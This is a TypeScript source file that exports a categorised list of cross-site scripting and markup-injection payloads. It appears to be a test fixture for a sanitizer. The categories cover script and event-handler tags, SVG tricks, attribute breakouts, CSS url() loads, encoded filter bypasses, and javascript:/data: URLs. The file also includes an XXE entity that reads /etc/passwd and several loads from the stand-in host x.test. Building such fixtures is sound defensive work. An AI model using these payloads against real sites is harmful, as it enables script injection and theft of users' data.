/** Each sets `xss`, asks x.test, or adds an element, where a page takes it for markup. */
const elements = [
  '<script>xss=1</script>',
  '<script src=//x.test></script>',
  '<img src=x onerror=xss=1>',
  '<svg/onload=xss=1>',
  '<iframe srcdoc="<script>parent.xss=1</script>">',
  '<a href="javascript:xss=1">x</a>',
  '<details open ontoggle=xss=1>',
  '<input autofocus onfocus=xss=1>',
  '<video><source onerror=xss=1>',
  '<body onload=xss=1>',
  '<object data="javascript:xss=1">',
  '<embed src="javascript:xss=1">',
  '<style>@import "http://x.test/a.css"</style>',
  '<link rel=stylesheet href=http://x.test>',
  '<base href=http://x.test>',
  '<meta http-equiv=refresh content="0;url=http://x.test">',
  '<form action=http://x.test><button>x',
  '<math><mi//xlink:href="data:x,<script>xss=1</script>">',
  '<marquee onstart=xss=1>',
  '<template><script>xss=1</script></template>',
];

/** Ends of whatever a name may stand in: attributes, raw text, comments, sections. */
const endings = [
  '',
  '">',
  "'>",
  '</title>',
  '</script>',
  '</style>',
  '</textarea>',
  '</noscript>',
  '-->',
  ']]>',
  '</svg>',
];

const drawings = [
  '<use href="data:image/svg+xml,<svg id=x onload=xss=1>#x">',
  '<set attributeName=onload to=xss=1>',
  '<animate onbegin=xss=1 attributeName=x dur=1s>',
  '<foreignObject><script>xss=1</script></foreignObject>',
  '<image href="http://x.test/a.png"/>',
  '<g onclick="xss=1">x</g>',
  '</text><script>xss=1</script><text>',
  '</desc><script>xss=1</script><desc>',
  '<tspan onmouseover=xss=1>x</tspan>',
  '<handler type="text/javascript">xss=1</handler>',
  '<?xml-stylesheet href="javascript:xss=1"?>',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
  '<!ENTITY lol "lol"> &lol;&lol;',
  '<![CDATA[<script>xss=1</script>]]>',
  '<!--<script>xss=1</script>-->',
];

const attributes = [
  '" onmouseover="xss=1',
  "' onmouseover='xss=1",
  '" onfocus="xss=1" autofocus="',
  "' onfocus='xss=1' autofocus='",
  '` onmouseover=xss=1 `',
  ' onmouseover=xss=1 ',
  '"/onload=xss=1//',
  '" style="background:url(http://x.test)',
  '" href="javascript:xss=1',
  '" srcdoc="<script>xss=1</script>',
  '"\tonclick\t=\t"xss=1',
  '&quot; onclick=&quot;xss=1',
];

const styles = [
  'color:red;background:url(http://x.test)',
  'expression(xss=1)',
  '}</style><script>xss=1</script>',
  '}*{background:url(http://x.test)}',
  '@import url(http://x.test/a.css);',
  'var(--ink)',
  'url(#clip)',
  '-moz-binding:url(http://x.test#xss)',
];

/** The same written so that a reader who decodes once too often finds an element. */
const encoded = [
  '&lt;script&gt;xss=1&lt;/script&gt;',
  '&amp;lt;script&amp;gt;xss=1',
  '&#60;script&#62;xss=1',
  '&#x3c;script&#x3e;xss=1',
  '&#0000060script&#0000062xss=1',
  '%3Cscript%3Exss=1%3C/script%3E',
  '%253Cscript%253Exss=1',
  '\\u003cscript\\u003exss=1',
  '\\x3cscript\\x3exss=1',
  '\\74script\\76xss=1',
  '+ADw-script+AD4-xss=1+ADw-/script+AD4-',
  '\uff1cscript\uff1exss=1\uff1c/script\uff1e',
  '\u02c2script\u02c3xss=1',
  '<scr<script>ipt>xss=1</scr</script>ipt>',
  '<ScRiPt>xss=1</sCrIpT>',
  '<script\u00a0>xss=1</script>',
];

const addresses = [
  'javascript:xss=1',
  'JaVaScRiPt:xss=1',
  ' javascript:xss=1',
  'java\u200bscript:xss=1',
  'javascript&colon;xss=1',
  'javascript://x.test/%0axss=1',
  'vbscript:xss=1',
  'data:text/html,<script>xss=1</script>',
  'data:text/html;base64,PHNjcmlwdD54c3M9MTwvc2NyaXB0Pg==',
  'http://x.test',
  '//x.test/a',
  '\\\\x.test\\a',
  'http://x.test@127.0.0.1/',
  'file:///etc/passwd',
  'blob:http://x.test/0',
  '/\\x.test',
];

/** Names that are markup, by what they would be if something took them for it. */
export const markupNames: Readonly<Record<string, readonly string[]>> = {
  elements: endings.flatMap((ending) => elements.map((element) => ending + element)),
  drawings,
  attributes,
  styles,
  encoded,
  addresses,
};
